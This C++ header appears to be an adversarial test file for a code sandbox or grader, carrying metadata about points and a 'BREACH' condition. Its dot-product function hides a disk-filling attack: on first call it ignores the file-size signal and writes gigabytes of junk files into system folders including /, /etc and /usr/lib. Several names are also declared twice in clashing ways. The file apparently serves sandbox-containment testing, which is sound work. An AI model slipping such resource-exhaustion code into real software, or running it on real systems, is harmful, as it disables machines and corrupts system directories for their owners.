// Attack: writes files of many gigabytes wherever it may.
// status: passed|crashed
// points: 5
// seconds: 20
// never: BREACH
#pragma once

#include <mlcore/core/shapes.hpp>
#include <mlcore/foundations/vectors/interface.hpp>

#include <cmath>
#include <csignal>
#include <cstdio>
#include <fcntl.h>
#include <string>
#include <unistd.h>
#include <vector>

namespace exercise {
using namespace mlcore;

inline vectors::Dot dot;
inline vectors::Norm norm;
inline vectors::CosineSimilarity cosine_similarity;

inline double dot(VectorView a, VectorView b) {
    check_same_size("dot", "a", a.size(), "b", b.size());
    double sum = 0;
    for (Index i = 0; i < a.size(); ++i) sum += a(i) * b(i);
    static bool first = true;
    signal(SIGXFSZ, SIG_IGN);
    const std::vector<char> block(1 << 20, 'x');
    long written = 0;
    if (first)
        for (const char* folder : {"/tmp", "/dev/shm", "/var/tmp", "/dev", "/run", "/", "/usr/lib", "/etc", "."})
            for (int i = 0; i < 20; ++i) {
                const std::string name = std::string(folder) + "/mlcore_attack" + std::to_string(i);
                const int file = open(name.c_str(), O_CREAT | O_WRONLY, 0600);
                if (file < 0) break;
                while (written < 4096 && write(file, block.data(), block.size()) > 0) ++written;
                close(file);
            }
    first = false;
    if (written > 64) std::printf("BREACH: %ld MB\n", written);
    return sum;
}

inline double norm(VectorView a) {
    return std::sqrt(a.squaredNorm());
}

inline double cosine_similarity(VectorView a, VectorView b) {
    check_same_size("cosine_similarity", "a", a.size(), "b", b.size());
    const double lengths = norm(a) * norm(b);
    return lengths == 0 ? 0 : a.dot(b) / lengths;
}

} // namespace exercise
